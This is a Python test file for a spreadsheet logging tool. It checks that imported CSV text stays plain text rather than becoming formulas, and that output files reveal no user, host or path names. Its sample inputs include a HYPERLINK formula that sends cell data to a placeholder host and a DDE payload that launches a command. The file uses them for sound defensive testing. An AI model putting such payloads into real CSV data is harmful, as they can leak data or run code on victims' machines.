"""What comes in with somebody's record stays text wherever it goes, and files say nothing about this machine."""

from __future__ import annotations

import csv
import getpass
import platform
import re
import sys
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from command_line import WRITE, Run, filled, new_name
from conftest import CLIENT, TANK

# What makes a spreadsheet program take a cell of a .csv file for a formula (CWE-1236).
STARTS = ("=", "+", "-", "@", "\t", "\r")
NASTY = ('=HYPERLINK("http://example.invalid/?"&A1,"log")', "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "=cmd|' /C calc'!A0")


pytestmark = pytest.mark.long
def record(path: Path, system: str = TANK) -> None:
    """A record whose every text is a formula to a careless program."""
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file, quoting=csv.QUOTE_ALL)
        out.writerow(["Date", "Tank", "Tester", "Note", "Temp (C)", "pH", "=EVIL(1)"])
        for day, text in enumerate(NASTY, start=4):
            out.writerow([f"2026-05-{day:02d}", system, text, text, "19.3", "7.7", text])


def cells_of(path: Path) -> dict[tuple[str, str], openpyxl.cell.cell.Cell]:
    """All cells that hold something."""
    book = openpyxl.load_workbook(path)
    return {(sheet.title, cell.coordinate): cell
            for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None}


def formulas(path: Path) -> set[str]:
    """The texts of all formulas."""
    return {str(getattr(cell.value, "text", cell.value)) for cell in cells_of(path).values() if cell.data_type == "f"}


def is_nasty(value: object) -> bool:
    return isinstance(value, str) and any(text.strip() in value for text in NASTY if len(text) > 5)


def test_imported_texts_stay_texts_everywhere(here: Path, run: Run) -> None:
    record(Path("readings.csv"))
    before = formulas(Path("log.xlsx"))
    assert run("import", "readings.csv", "log.xlsx", "-o", "with.xlsx").code == 0
    assert formulas(Path("with.xlsx")) == before
    stored = {cell.value for cell in cells_of(Path("with.xlsx")).values() if cell.data_type == "s"}
    assert {text.strip() for text in NASTY} <= stored
    assert run("recalc", "with.xlsx", "-o", "computed.xlsx").code in (0, 1)
    assert formulas(Path("computed.xlsx")) == before
    for arguments in (["share", "computed.xlsx", "-o", "copy.xlsx"],
                      ["share", "computed.xlsx", "-o", "client.xlsx", "--client", CLIENT],
                      ["report", "computed.xlsx", "--client", CLIENT, "--since", "2026-05-01", "-o", "report.xlsx"]):
        ended = run(*arguments)
        assert ended.code in (0, 1), ended
        made = Path(next(name for name in arguments[2:] if name.endswith(".xlsx")))
        assert not [text for text in formulas(made) if is_nasty(text)]
    assert {text.strip() for text in NASTY} <= {cell.value for cell in cells_of(Path("copy.xlsx")).values()}


@pytest.mark.parametrize("text", [text.strip() for text in NASTY])
def test_a_system_with_such_a_name(text: str, here: Path, run: Run) -> None:
    """It is kept as it is through the sensor's daily rows, the import and the report of its client."""
    with Path("sensor.csv").open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file, quoting=csv.QUOTE_ALL)
        out.writerow(["Timestamp", "Tank", "=1+1 pH", "Temp (C)"])
        out.writerows([f"2026-05-03 0{hour}:00", text, "7.7", "-1.5"] for hour in range(4))
    assert run("daily", "sensor.csv", "-o", "daily.csv", "--map", "=1+1 pH=ph").code == 0
    with Path("daily.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(STARTS) or re.fullmatch(r"-?\d+(\.\d+)?", cell), cell
    assert rows[0][:4] == ["date", "system", "'=1+1 pH", "Temp (C)"]
    assert rows[1][1:4] == [f"'{text}", "7.7", "-1.5"]
    ended = run("import", "daily.csv", "log.xlsx", "-o", "with.xlsx", "--map", "=1+1 pH=ph")
    assert ended.code == 0, ended
    assert text in {cell.value for cell in cells_of(Path("with.xlsx")).values() if cell.data_type == "s"}


# What files say about this machine -----------------------------------------------------------------------------


def contents(path: Path) -> bytes:
    """All that is in the file, unpacked."""
    if not zipfile.is_zipfile(path):
        return path.read_bytes()
    with zipfile.ZipFile(path) as made:
        return b"\n".join([made.comment, *(part for entry in made.infolist() for part in (
            entry.filename.encode(), entry.comment, entry.extra, made.read(entry)))])


@pytest.mark.parametrize("command", [*WRITE, "install excel"])
def test_files_hold_no_path_and_no_name_of_this_machine(
    command: str, here: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    for variable in ("USER", "LOGNAME", "USERNAME", "LNAME", "COMPUTERNAME", "HOSTNAME"):
        monkeypatch.setenv(variable, "quillfeather")
    assert getpass.getuser() == "quillfeather"
    log = str(here / "log.xlsx")
    if command == "install excel":
        assert run("install", "excel", "--build", here / "made").code == 0
        made = [path for path in (here / "made").rglob("*") if path.is_file()]
    else:
        made = [here / new_name(command)]
        arguments = [argument.replace("log.xlsx", log) for argument in filled(WRITE[command], new=made[0])]
        assert run(*arguments).code in (0, 1)
    words = ["quillfeather", str(here), str(here.parent), str(Path.home()) + "/", sys.prefix, "site-packages",
             "pytest-of-", "/tmp/", "temporary/", str(Path(openpyxl.__file__).parent)]
    words += [name for name in (platform.node(),) if len(name) > 5]
    for path in made:
        inside = contents(path)
        found = [word for word in words if word.encode() in inside or word.encode("utf-16-le") in inside]
        assert found == [], path.name


@pytest.mark.parametrize("command", ["new", "report"])
def test_properties_name_no_person(command: str, here: Path, run: Run) -> None:
    assert run(*filled(WRITE[command], new="new.xlsx")).code == 0
    with zipfile.ZipFile("new.xlsx") as made:
        core = ElementTree.fromstring(made.read("docProps/core.xml"))
    people = {element.tag.rpartition("}")[2]: element.text for element in core}
    assert (people["creator"], people["lastModifiedBy"]) == ("Pailbook", "Pailbook")
